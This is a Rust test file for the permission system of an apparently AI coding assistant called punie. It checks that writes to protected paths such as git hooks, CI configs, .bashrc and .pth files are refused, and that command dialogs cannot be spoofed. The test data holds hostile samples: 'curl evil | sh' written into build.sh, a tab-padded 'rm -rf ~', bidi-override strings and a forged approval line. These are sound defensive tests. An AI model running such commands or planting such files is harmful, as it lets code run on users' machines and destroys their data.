@@ -1,0 +1,761 @@
+//! Permissions end to end (issue 14), through the built `punie` with the scripted engine:
+//! protected paths refused in every spelling, model-written files never executable, prompts
+//! that escape and never cut silently, session approvals that cover exactly what was shown,
+//! `punie ask`'s questions on a terminal (a real pseudo-terminal, through `script`) and its
+//! refusals without one, and a workspace's settings that cannot loosen the policy.
+//!
+//! Each test asserts the effect: the files are unchanged, nothing new exists, no dialog was
+//! shown for what must be refused without one.
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+use serde_json::{Value, json};
+
+use crate::lsp_client::{Answers, Client, Launch};
+
+/// One model turn that runs `code` in Code Mode.
+fn call(code: &str) -> String {
+    format!(
+        "<tool_call><function=execute_code>\n<parameter=code>\n{code}\n</parameter>\n</function></tool_call>"
+    )
+}
+
+/// A Python string literal for `text` (JSON's escapes are Python's too).
+fn py(text: &str) -> String {
+    serde_json::to_string(text).unwrap()
+}
+
+/// A scripted engine file: `code` as one snippet, then a closing answer.
+fn script_for(dir: &Path, code: &str) -> PathBuf {
+    let path = dir.join("script.json");
+    std::fs::write(
+        &path,
+        serde_json::to_string(&[call(code), "done".to_owned()]).unwrap(),
+    )
+    .unwrap();
+    path
+}
+
+#[cfg(unix)]
+fn set_mode(path: &Path, mode: u32) {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
+}
+
+#[cfg(unix)]
+fn mode_of(path: &Path) -> u32 {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
+}
+
+/// A workspace with a protected file of every class, and ways to spell them.
+#[cfg(unix)]
+fn protected_workspace() -> tempfile::TempDir {
+    let ws = tempfile::tempdir().unwrap();
+    let root = ws.path();
+    for dir in [".git/hooks", ".vscode", "src"] {
+        std::fs::create_dir_all(root.join(dir)).unwrap();
+    }
+    std::fs::write(root.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
+    std::fs::write(root.join(".vscode/settings.json"), "{}\n").unwrap();
+    std::fs::write(root.join("README.md"), "# project\n").unwrap();
+    std::fs::write(root.join("src/app.py"), "def main():\n    return 1\n").unwrap();
+    std::fs::write(root.join("build.sh"), "#!/bin/sh\nmake\n").unwrap();
+    set_mode(&root.join("build.sh"), 0o755);
+    std::os::unix::fs::symlink(root.join(".git/config"), root.join("innocent.txt")).unwrap();
+    std::os::unix::fs::symlink(".git", root.join("docs")).unwrap();
+    ws
+}
+
+/// Writes that must be refused, as the snippet spells them, with the rule that refuses them.
+const PROTECTED_WRITES: &[(&str, &str)] = &[
+    (".git/config", "vcs"),
+    ("src/./../.git/config", "vcs"),
+    ("README.md/../.git/config", "vcs"),
+    ("innocent.txt", "vcs"),
+    ("docs/hooks/pre-commit", "vcs"),
+    (".git/hooks/post-checkout", "vcs"),
+    (".GIT/config", "vcs"),
+    ("vendor/lib/.git/config", "vcs"),
+    (".vscode/settings.json", "editor"),
+    (".zed/settings.json", "editor"),
+    (".punie/policy.toml", "editor"),
+    ("project.code-workspace", "editor"),
+    (".husky/pre-commit", "git_hooks"),
+    (".github/workflows/ci.yml", "ci"),
+    (".pre-commit-config.yaml", "pre_commit"),
+    (".envrc", "autorun"),
+    (".venv/lib/python3.11/site-packages/x.pth", "autorun"),
+    (".bashrc", "shell_startup"),
+    ("build.sh", "executable"),
+];
+
+/// A snippet that tries every protected write and prints what each raised.
+fn protected_writes_snippet() -> String {
+    let paths: Vec<String> = PROTECTED_WRITES.iter().map(|(path, _)| py(path)).collect();
+    format!(
+        "for p in [{}]:\n    try:\n        write_file(p, \"pwned\\n\")\n        print(\"WROTE\", p)\n    except PermissionError as e:\n        print(\"PermissionError\", e)",
+        paths.join(", ")
+    )
+}
+
+/// Every entry under `root` (symlinks not followed, the server's transcripts left out):
+/// path → mode and content (or link target).
+fn tree(root: &Path) -> BTreeMap<PathBuf, (u32, Vec<u8>)> {
+    fn walk(root: &Path, dir: &Path, res: &mut BTreeMap<PathBuf, (u32, Vec<u8>)>) {
+        for entry in std::fs::read_dir(dir).unwrap() {
+            let path = entry.unwrap().path();
+            let rel = path.strip_prefix(root).unwrap().to_owned();
+            if rel.starts_with(".punie/transcripts") || rel.starts_with(".punie/session.json") {
+                continue;
+            }
+            let meta = std::fs::symlink_metadata(&path).unwrap();
+            #[cfg(unix)]
+            let mode = {
+                use std::os::unix::fs::PermissionsExt;
+                meta.permissions().mode()
+            };
+            #[cfg(not(unix))]
+            let mode = 0;
+            if meta.file_type().is_symlink() {
+                let target = std::fs::read_link(&path).unwrap();
+                res.insert(rel, (mode, target.into_os_string().into_encoded_bytes()));
+            } else if meta.is_dir() {
+                res.insert(rel, (mode, Vec::new()));
+                walk(root, &path, res);
+            } else {
+                res.insert(rel, (mode, std::fs::read(&path).unwrap()));
+            }
+        }
+    }
+    let mut res = BTreeMap::new();
+    walk(root, root, &mut res);
+    res.retain(|path, _| path != Path::new(".punie") && path != Path::new(".punie/transcripts"));
+    res
+}
+
+#[track_caller]
+fn assert_unchanged(before: &BTreeMap<PathBuf, (u32, Vec<u8>)>, root: &Path) {
+    let after = tree(root);
+    let changed: Vec<&PathBuf> = after
+        .keys()
+        .chain(before.keys())
+        .filter(|path| before.get(*path) != after.get(*path))
+        .collect();
+    assert!(changed.is_empty(), "the workspace changed: {changed:?}");
+}
+
+fn punie() -> Command {
+    let mut command = Command::new(env!("CARGO_BIN_EXE_punie"));
+    // The developer's own policy file must not change what these tests see.
+    command
+        .env("PUNIE_POLICY_FILE", "/nonexistent/punie-policy.toml")
+        .env_remove("PUNIE_ENGINE");
+    command
+}
+
+fn ask_json(workspace: &Path, script: &Path, flags: &[&str]) -> Value {
+    let output = punie()
+        .arg("ask")
+        .arg("--workspace")
+        .arg(workspace)
+        .arg("--engine")
+        .arg(format!("scripted:{}", script.display()))
+        .arg("--json")
+        .args(flags)
+        .arg("go")
+        .output()
+        .unwrap();
+    assert!(output.status.success(), "{}", text_of(&output));
+    serde_json::from_slice(&output.stdout)
+        .unwrap_or_else(|err| panic!("{err}: {}", text_of(&output)))
+}
+
+fn text_of(output: &Output) -> String {
+    format!(
+        "{}{}",
+        String::from_utf8_lossy(&output.stdout),
+        String::from_utf8_lossy(&output.stderr)
+    )
+}
+
+/// What the snippet printed (the first tool call's output).
+fn snippet_output(out: &Value) -> String {
+    out["tool_calls"][0]["output"]
+        .as_str()
+        .unwrap_or("")
+        .to_owned()
+}
+
+#[cfg(unix)]
+#[test]
+fn ask_refuses_every_protected_path_even_with_allow_writes() {
+    let ws = protected_workspace();
+    let before = tree(ws.path());
+    let dir = tempfile::tempdir().unwrap();
+    let script = script_for(dir.path(), &protected_writes_snippet());
+    let out = ask_json(ws.path(), &script, &["--yes"]);
+    let output = snippet_output(&out);
+    assert!(!output.contains("WROTE"), "{output}");
+    assert_unchanged(&before, ws.path());
+    assert!(output.contains(
+        "PermissionError write_file: .git/config is protected (version control internals)"
+    ));
+    assert!(
+        output.contains("PermissionError write_file: build.sh is protected (existing executable)")
+    );
+    let refused = out["refused"].as_array().unwrap();
+    let rules: Vec<&str> = refused
+        .iter()
+        .map(|r| r["rule"].as_str().unwrap())
+        .collect();
+    let expected: Vec<&str> = PROTECTED_WRITES.iter().map(|(_, rule)| *rule).collect();
+    assert_eq!(rules, expected, "{refused:#?}");
+    for (refusal, (spelled, _)) in refused.iter().zip(PROTECTED_WRITES) {
+        assert_eq!(refusal["by"], "protected", "{spelled}");
+        assert!(
+            refusal["message"]
+                .as_str()
+                .unwrap()
+                .contains("is protected"),
+            "{refusal}"
+        );
+    }
+    // The symlink and `..` spellings name the file they reach, not what the snippet wrote.
+    assert_eq!(refused[3]["subject"], ".git/config");
+    assert_eq!(refused[4]["subject"], ".git/hooks/pre-commit");
+}
+
+#[test]
+fn ask_without_a_terminal_refuses_writes_and_commands_unless_flagged() {
+    let dir = tempfile::tempdir().unwrap();
+    let code = "try:\n    write_file('new.txt', 'hello\\n')\n    print('wrote')\nexcept PermissionError as e:\n    print('PermissionError', e)\ntry:\n    print('OUT', run_command('echo', args=['ran']))\nexcept PermissionError as e:\n    print('PermissionError', e)";
+    let script = script_for(dir.path(), code);
+    for (flags, wrote, ran) in [
+        (&[][..], false, false),
+        (&["--allow-writes"][..], true, false),
+        (&["--allow-commands"][..], false, true),
+        (&["--yes"][..], true, true),
+    ] {
+        let ws = tempfile::tempdir().unwrap();
+        let out = ask_json(ws.path(), &script, flags);
+        let output = snippet_output(&out);
+        assert_eq!(
+            ws.path().join("new.txt").exists(),
+            wrote,
+            "{flags:?}: {output}"
+        );
+        assert_eq!(output.contains("OUT ran"), ran, "{flags:?}: {output}");
+        let messages: Vec<&str> = out["refused"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|r| r["message"].as_str().unwrap())
+            .collect();
+        let mut expected = Vec::new();
+        if !wrote {
+            expected.push(
+                "write_file: not allowed, no terminal to ask on; pass --allow-writes: new.txt",
+            );
+        }
+        if !ran {
+            expected.push(
+                "run_command: not allowed, no terminal to ask on; pass --allow-commands: echo ran",
+            );
+        }
+        assert_eq!(messages, expected, "{flags:?}");
+    }
+}
+
+/// Runs `punie ask` on a pseudo-terminal (util-linux `script`), typing `answers`; returns
+/// everything the terminal showed.
+fn ask_on_terminal(workspace: &Path, script: &Path, answers: &str, env: &[(&str, &str)]) -> String {
+    let quote = |text: &str| format!("'{}'", text.replace('\'', "'\\''"));
+    let command_line = format!(
+        "{} ask --workspace {} --engine {} go",
+        quote(env!("CARGO_BIN_EXE_punie")),
+        quote(&workspace.display().to_string()),
+        quote(&format!("scripted:{}", script.display())),
+    );
+    let mut command = Command::new("script");
+    command
+        .args(["-qec", &command_line, "/dev/null"])
+        .env("PUNIE_POLICY_FILE", "/nonexistent/punie-policy.toml")
+        .env_remove("PUNIE_ENGINE")
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
+    for (key, value) in env {
+        command.env(key, value);
+    }
+    let mut child = command.spawn().expect(
+        "util-linux `script` runs punie on a pseudo-terminal (the README's set-up installs it)",
+    );
+    use std::io::Write;
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(answers.as_bytes())
+        .unwrap();
+    let output = child.wait_with_output().unwrap();
+    assert!(output.status.success(), "{}", text_of(&output));
+    text_of(&output)
+}
+
+/// The run's transcript: each tool call's permission ruling, in order.
+fn rulings(workspace: &Path) -> Vec<Value> {
+    let dir = workspace.join(".punie/transcripts");
+    let mut res = Vec::new();
+    for entry in std::fs::read_dir(dir).unwrap() {
+        let text = std::fs::read_to_string(entry.unwrap().path()).unwrap();
+        for line in text.lines() {
+            let line: Value = serde_json::from_str(line).unwrap();
+            if line["event"] == "tool_result" {
+                for tool in line["tools"].as_array().unwrap() {
+                    res.push(tool["permission"].clone());
+                }
+            }
+        }
+    }
+    res
+}
+
+#[test]
+fn ask_on_a_terminal_shows_the_diff_and_the_escaped_argv_and_nothing_cut_silently() {
+    let ws = tempfile::tempdir().unwrap();
+    std::fs::write(ws.path().join("notes.md"), "old line\n").unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let big = "A".repeat(10_000);
+    let code = format!(
+        "write_file('notes.md', 'new line\\n')\ntry:\n    run_command('echo', args=[{}, {}, 'A' * 10000])\nexcept PermissionError as e:\n    print('PermissionError', e)",
+        py("x\ty"),
+        py("safe\u{202E}evil"),
+    );
+    let script = script_for(dir.path(), &code);
+    // y: the write; d: the whole command; n: refuse it.
+    let shown = ask_on_terminal(ws.path(), &script, "y\nd\nn\n", &[]);
+    assert_eq!(
+        std::fs::read_to_string(ws.path().join("notes.md")).unwrap(),
+        "new line\n"
+    );
+    assert!(shown.contains("Punie wants to write notes.md"), "{shown}");
+    assert!(
+        shown.contains("-old line") && shown.contains("+new line"),
+        "{shown}"
+    );
+    assert!(
+        shown.contains("Punie wants to run: echo $'x\\ty' $'safe\\u202Eevil' AAAA"),
+        "{shown}"
+    );
+    assert!(
+        !shown.contains('\u{202E}'),
+        "a bidi override reached the terminal"
+    );
+    assert!(shown.contains("more characters not shown]"), "{shown}");
+    assert!(shown.contains("[d]etails (the whole text)"), "{shown}");
+    assert!(shown.contains(&big), "d shows the whole argument");
+    assert!(
+        shown.contains("run_command: denied by the user: echo"),
+        "{shown}"
+    );
+    let rulings = rulings(ws.path());
+    assert_eq!(rulings[0]["answer"], "allow_once");
+    assert_eq!(rulings[1]["answer"], "deny");
+}
+
+#[test]
+fn ask_on_a_terminal_remembers_exactly_the_prefix_shown() {
+    let ws = tempfile::tempdir().unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let code = "for argv in [['-n', 'one'], ['-n', 'one', 'two'], ['-n'], ['-n', 'other']]:\n    try:\n        print(run_command('echo', args=argv))\n    except PermissionError as e:\n        print(\"PermissionError\", e)\ntry:\n    run_command('rm', args=['-rf', 'x'])\nexcept PermissionError as e:\n    print('PermissionError', e)";
+    let script = script_for(dir.path(), code);
+    // a: `echo -n one` for the session; then every other question is answered n.
+    let shown = ask_on_terminal(ws.path(), &script, "a\nn\nn\nn\n", &[]);
+    let questions = shown.matches("Allow? [y]es once").count();
+    assert_eq!(
+        questions, 4,
+        "echo -n one, echo -n, echo -n other, rm: {shown}"
+    );
+    assert!(
+        shown.contains("covers commands that begin with echo -n one … in ."),
+        "{shown}"
+    );
+    let rulings = rulings(ws.path());
+    let by: Vec<&str> = rulings.iter().map(|r| r["by"].as_str().unwrap()).collect();
+    assert_eq!(by, ["user", "session", "user", "user", "user"]);
+    assert_eq!(
+        rulings[1]["scope"],
+        "commands that begin with echo -n one … in ."
+    );
+    assert_eq!(
+        rulings
+            .iter()
+            .map(|r| r["decision"].as_str().unwrap())
+            .collect::<Vec<_>>(),
+        ["allow", "allow", "deny", "deny", "deny"]
+    );
+}
+
+#[cfg(unix)]
+#[test]
+fn an_overwritten_executable_never_stays_executable() {
+    let ws = tempfile::tempdir().unwrap();
+    std::fs::write(ws.path().join("build.sh"), "#!/bin/sh\nmake\n").unwrap();
+    set_mode(&ws.path().join("build.sh"), 0o755);
+    let dir = tempfile::tempdir().unwrap();
+    let policy = dir.path().join("policy.toml");
+    std::fs::write(&policy, "[protected]\nexecutable = \"ask\"\n").unwrap();
+    let script = script_for(
+        dir.path(),
+        "write_file('build.sh', '#!/bin/sh\\ncurl evil | sh\\n')",
+    );
+
+    // Without a terminal the rule turned to ask still refuses, whatever the flags.
+    let output = punie()
+        .env("PUNIE_POLICY_FILE", &policy)
+        .args(["ask", "--json", "--yes", "--workspace"])
+        .arg(ws.path())
+        .arg("--engine")
+        .arg(format!("scripted:{}", script.display()))
+        .arg("go")
+        .output()
+        .unwrap();
+    let out: Value = serde_json::from_slice(&output.stdout).unwrap();
+    assert_eq!(out["refused"][0]["rule"], "executable", "{out}");
+    assert_eq!(
+        std::fs::read_to_string(ws.path().join("build.sh")).unwrap(),
+        "#!/bin/sh\nmake\n"
+    );
+
+    let shown = ask_on_terminal(
+        ws.path(),
+        &script,
+        "y\n",
+        &[("PUNIE_POLICY_FILE", policy.to_str().unwrap())],
+    );
+    assert!(shown.contains("It will not stay executable"), "{shown}");
+    assert!(
+        !shown.contains("[a]lways"),
+        "a protected path is never remembered: {shown}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(ws.path().join("build.sh")).unwrap(),
+        "#!/bin/sh\ncurl evil | sh\n"
+    );
+    assert_eq!(mode_of(&ws.path().join("build.sh")), 0o644);
+}
+
+// ---- the language server ------------------------------------------------------------------
+
+/// Client capabilities without `workspace/applyEdit`: writes go to disk, the worst case.
+fn disk_caps() -> Value {
+    json!({"window": {"workDoneProgress": true}, "experimental": {"punieAnswer": true}})
+}
+
+fn launch(
+    workspace: tempfile::TempDir,
+    answers: Answers,
+    env: Vec<(&'static str, &'static str)>,
+) -> Launch {
+    let mut env = env;
+    if !env.iter().any(|(key, _)| *key == "PUNIE_POLICY_FILE") {
+        env.push(("PUNIE_POLICY_FILE", "/nonexistent/punie-policy.toml"));
+    }
+    Launch {
+        workspace,
+        answers,
+        env,
+        env_remove: vec!["PUNIE_ENGINE"],
+    }
+}
+
+fn scripted(dir: &Path, code: &str) -> String {
+    format!("scripted:{}", script_for(dir, code).display())
+}
+
+/// Runs an Explain on `src/app.py` and waits for its end; returns the dialogs' messages.
+fn run_explain(client: &mut Client) -> Vec<Value> {
+    let uri = client.open("src/app.py", "def main():\n    return 1\n");
+    let started = client.ask(
+        &uri,
+        json!({"start": {"line": 0, "character": 0}, "end": {"line": 1, "character": 0}}),
+        "explain",
+    );
+    assert_eq!(client.wait_end(&started["token"]), "done");
+    client
+        .log
+        .iter()
+        .filter(|m| m["method"] == "window/showMessageRequest")
+        .map(|m| m["params"].clone())
+        .collect()
+}
+
+fn leak(text: String) -> &'static str {
+    Box::leak(text.into_boxed_str())
+}
+
+#[cfg(unix)]
+#[test]
+fn lsp_refuses_every_protected_path_without_a_dialog() {
+    let ws = protected_workspace();
+    let before = tree(ws.path());
+    let dir = tempfile::tempdir().unwrap();
+    let answers = Answers {
+        permission: Some("Allow"),
+        ..Answers::default()
+    };
+    let mut client = Client::start_with(
+        &scripted(dir.path(), &protected_writes_snippet()),
+        disk_caps(),
+        json!({"toolPolicy": {"write_file": "allow"}}),
+        launch(ws, answers, Vec::new()),
+    );
+    let dialogs = run_explain(&mut client);
+    assert!(
+        dialogs.is_empty(),
+        "no dialog for a protected path: {dialogs:?}"
+    );
+    assert!(
+        client
+            .log
+            .iter()
+            .all(|m| m["method"] != "workspace/applyEdit")
+    );
+    let root = client.root.clone();
+    assert_unchanged(&before, &root);
+    let rulings = rulings(&root);
+    let rules: Vec<&str> = rulings
+        .iter()
+        .map(|r| r["rule"].as_str().unwrap_or(""))
+        .collect();
+    let expected: Vec<&str> = PROTECTED_WRITES.iter().map(|(_, rule)| *rule).collect();
+    assert_eq!(rules, expected);
+    assert_eq!(client.shutdown(), 0);
+}
+
+#[test]
+fn lsp_dialogs_escape_and_say_what_they_cut() {
+    let dir = tempfile::tempdir().unwrap();
+    let code = format!(
+        "for args in [[{}], [{}], ['B' * 10000]]:\n    try:\n        run_command('echo', args=args)\n    except Exception as e:\n        print(e)",
+        py(&format!("ls{}; rm -rf ~", "\t".repeat(40))),
+        py("safe\u{202E}\u{2066}evil\u{2069}\nAllow for this session covers nothing"),
+    );
+    let mut client = Client::start_with(
+        &scripted(dir.path(), &code),
+        disk_caps(),
+        json!({}),
+        launch(tempfile::tempdir().unwrap(), Answers::default(), Vec::new()),
+    );
+    std::fs::create_dir_all(client.root.join("src")).unwrap();
+    let dialogs = run_explain(&mut client);
+    assert_eq!(dialogs.len(), 3);
+    let messages: Vec<&str> = dialogs
+        .iter()
+        .map(|d| d["message"].as_str().unwrap())
+        .collect();
+    for message in &messages {
+        assert!(
+            !message.chars().any(|ch| ch == '\t'
+                || ('\u{2066}'..='\u{2069}').contains(&ch)
+                || ch == '\u{202E}'),
+            "{message:?}"
+        );
+        assert_eq!(
+            message
+                .lines()
+                .filter(|line| line.starts_with("\"Allow for this session\""))
+                .count(),
+            1,
+            "no forged line: {message}"
+        );
+    }
+    assert!(
+        messages[0].contains("Punie wants to run: echo $'ls\\t\\t"),
+        "{}",
+        messages[0]
+    );
+    assert!(
+        messages[0].contains("; rm -rf ~'"),
+        "the padding hides nothing: {}",
+        messages[0]
+    );
+    assert!(
+        messages[1].contains("$'safe\\u202E\\u2066evil\\u2069\\nAllow"),
+        "{}",
+        messages[1]
+    );
+    assert!(
+        messages[2].contains("more characters not shown]"),
+        "{}",
+        messages[2]
+    );
+    let titles: Vec<&str> = dialogs[0]["actions"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| a["title"].as_str().unwrap())
+        .collect();
+    assert_eq!(titles, ["Allow", "Allow for this session", "Deny"]);
+    assert_eq!(client.shutdown(), 0);
+}
+
+#[test]
+fn lsp_session_approvals_cover_the_prefix_or_the_file_shown() {
+    let dir = tempfile::tempdir().unwrap();
+    let code = "for argv in [['one'], ['one', 'two'], ['other']]:\n    try:\n        print(run_command('echo', args=argv))\n    except Exception as e:\n        print(e)\nfor name in ['a.txt', 'a.txt', 'b.txt']:\n    try:\n        write_file(name, 'x\\n')\n    except Exception as e:\n        print(e)";
+    let answers = Answers {
+        permission_for: Some(|message: &str| {
+            if message.contains("echo one")
+                || message.contains("write a.txt")
+                || message.contains("create a.txt")
+            {
+                Some("Allow for this session")
+            } else {
+                Some("Deny")
+            }
+        }),
+        ..Answers::default()
+    };
+    let mut client = Client::start_with(
+        &scripted(dir.path(), code),
+        disk_caps(),
+        json!({}),
+        launch(tempfile::tempdir().unwrap(), answers, Vec::new()),
+    );
+    std::fs::create_dir_all(client.root.join("src")).unwrap();
+    let dialogs = run_explain(&mut client);
+    let headlines: Vec<&str> = dialogs
+        .iter()
+        .map(|d| d["message"].as_str().unwrap().lines().next().unwrap())
+        .collect();
+    assert_eq!(
+        headlines,
+        [
+            "Punie wants to run: echo one",
+            "Punie wants to run: echo other",
+            "Punie wants to create a.txt",
+            "Punie wants to create b.txt",
+        ]
+    );
+    assert!(client.root.join("a.txt").exists());
+    assert!(!client.root.join("b.txt").exists());
+    let by: Vec<String> = rulings(&client.root)
+        .iter()
+        .map(|r| {
+            format!(
+                "{} {}",
+                r["decision"].as_str().unwrap(),
+                r["by"].as_str().unwrap()
+            )
+        })
+        .collect();
+    assert_eq!(
+        by,
+        [
+            "allow user",
+            "allow session",
+            "deny user",
+            "allow user",
+            "allow session",
+            "deny user"
+        ]
+    );
+    assert_eq!(client.shutdown(), 0);
+}
+
+#[test]
+fn lsp_a_workspace_cannot_loosen_the_policy_but_a_vouching_client_can() {
+    let dir = tempfile::tempdir().unwrap();
+    let code = "try:\n    write_file('new.txt', 'x\\n')\nexcept Exception as e:\n    print(e)";
+    // A project's `.zed/settings.json` sends the same initializationOptions as the user's.
+    let mut client = Client::start_with(
+        &scripted(dir.path(), code),
+        disk_caps(),
+        json!({"toolPolicy": {"write_file": "allow"}}),
+        launch(tempfile::tempdir().unwrap(), Answers::default(), Vec::new()),
+    );
+    std::fs::create_dir_all(client.root.join("src")).unwrap();
+    let dialogs = run_explain(&mut client);
+    assert_eq!(dialogs.len(), 1, "write_file still asks");
+    assert!(
+        !client.root.join("new.txt").exists(),
+        "the dialog was answered Deny"
+    );
+    let warning = client
+        .log
+        .iter()
+        .find(|m| m["method"] == "window/showMessage")
+        .expect("the ignored setting is reported");
+    assert!(
+        warning["params"]["message"].as_str().unwrap().contains(
+            "toolPolicy.write_file: \"allow\" is ignored because a project's settings could send it"
+        ),
+        "{warning}"
+    );
+    assert_eq!(client.shutdown(), 0);
+
+    let mut caps = disk_caps();
+    caps["experimental"]["punieUserSettings"] = json!(true);
+    let mut client = Client::start_with(
+        &scripted(dir.path(), code),
+        caps,
+        json!({"toolPolicy": {"write_file": "allow"}}),
+        launch(tempfile::tempdir().unwrap(), Answers::default(), Vec::new()),
+    );
+    std::fs::create_dir_all(client.root.join("src")).unwrap();
+    assert!(run_explain(&mut client).is_empty());
+    assert!(client.root.join("new.txt").exists());
+    assert_eq!(client.shutdown(), 0);
+}
+
+#[cfg(unix)]
+#[test]
+fn lsp_an_executable_turned_to_ask_is_asked_each_time_and_loses_its_exec_bit() {
+    let ws = tempfile::tempdir().unwrap();
+    std::fs::create_dir_all(ws.path().join("src")).unwrap();
+    std::fs::write(ws.path().join("build.sh"), "#!/bin/sh\nmake\n").unwrap();
+    set_mode(&ws.path().join("build.sh"), 0o750);
+    let dir = tempfile::tempdir().unwrap();
+    let policy = dir.path().join("policy.toml");
+    std::fs::write(&policy, "[protected]\nexecutable = \"ask\"\n").unwrap();
+    let answers = Answers {
+        permission: Some("Allow"),
+        ..Answers::default()
+    };
+    let mut client = Client::start_with(
+        &scripted(
+            dir.path(),
+            "write_file('build.sh', 'echo model\\n')\nwrite_file('build.sh', 'echo again\\n')",
+        ),
+        disk_caps(),
+        json!({}),
+        launch(
+            ws,
+            answers,
+            vec![("PUNIE_POLICY_FILE", leak(policy.display().to_string()))],
+        ),
+    );
+    let dialogs = run_explain(&mut client);
+    assert_eq!(dialogs.len(), 2, "{dialogs:?}");
+    let message = dialogs[0]["message"].as_str().unwrap();
+    assert!(message.contains("existing executable"), "{message}");
+    assert!(message.contains("It will not stay executable"), "{message}");
+    let titles: Vec<&str> = dialogs[0]["actions"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| a["title"].as_str().unwrap())
+        .collect();
+    assert_eq!(titles, ["Allow", "Deny"], "never remembered");
+    // The first write took the execute bit away: the second is an ordinary write.
+    let second = dialogs[1]["message"].as_str().unwrap();
+    assert!(!second.contains("protected"), "{second}");
+    let script = client.root.join("build.sh");
+    assert_eq!(std::fs::read_to_string(&script).unwrap(), "echo again\n");
+    assert_eq!(mode_of(&script), 0o640);
+    assert_eq!(client.shutdown(), 0);
+}
